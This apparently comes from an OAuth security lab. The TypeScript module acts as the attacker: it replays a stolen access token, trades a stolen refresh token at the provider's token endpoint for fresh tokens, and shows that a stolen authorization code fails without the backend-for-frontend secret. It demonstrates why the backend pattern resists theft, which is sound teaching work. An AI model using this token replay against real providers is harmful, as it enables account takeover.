import { type LabSettings, weakClientId } from '../environment.ts';
import { parsed, recordOf, textOf } from '../http.ts';
import { type Records, shownTokens, type Victim } from './records.ts';

/** Calls the API with a stolen access token, from the attacker's machine. In words, for its log. */
export async function callApi({ api }: LabSettings, accessToken: string): Promise<string> {
  const answer = await fetch(`${api}/api/me`, { headers: { authorization: `Bearer ${accessToken}` } });
  const { claims } = parsed(await answer.text());
  const name = textOf(recordOf(claims).name);
  return answer.ok
    ? `With it, this server called the API from its own machine: ${answer.status}, as ${name}.`
    : `The API refused it: ${answer.status}.`;
}

/** What the attacker does when the victim is gone: whatever was stolen before is all there is. */
export async function useLoot(
  settings: LabSettings,
  records: Records,
  from: Victim,
  scenario: string,
): Promise<void> {
  const { refreshToken } = records.lootOf(from);
  if (refreshToken === undefined) {
    const text = 'There is nothing to use: no token ever arrived, and the cookie cannot be read by script.';
    return records.add({ from, scenario, text, tokens: [] });
  }
  const answer = await fetch(`${settings.issuer}/token`, {
    method: 'POST',
    body: new URLSearchParams({
      grant_type: 'refresh_token',
      client_id: weakClientId,
      refresh_token: refreshToken,
    }),
  });
  const { access_token, refresh_token, error } = parsed(await answer.text());
  if (!answer.ok) {
    const text = `The provider refused the stolen refresh token: ${textOf(error)}.`;
    return records.add({ from, scenario, text, tokens: [] });
  }
  const fresh = { accessToken: textOf(access_token), refreshToken: textOf(refresh_token) };
  records.keep(from, fresh);
  const text = `The victim is gone, and the provider gave new tokens for the stolen one. ${await callApi(settings, fresh.accessToken)}`;
  records.add({ from, scenario, text, tokens: shownTokens(fresh) });
}

/** Tries to redeem a code as the BFF, whose secret nobody outside of it has. */
export async function redeemAsBff({ issuer, app }: LabSettings): Promise<string> {
  const answer = await fetch(`${issuer}/token`, {
    method: 'POST',
    body: new URLSearchParams({
      grant_type: 'authorization_code',
      client_id: 'coatcheck',
      code: 'a-code-from-a-hidden-frame',
      code_verifier: 'a-verifier-of-the-attacker-that-is-long-enough',
      redirect_uri: `${app}/bff/callback/demo`,
    }),
  });
  const { error } = parsed(await answer.text());
  return `A code would not help: the provider wants the BFF’s secret with it (${answer.status} ${textOf(error)}).`;
}
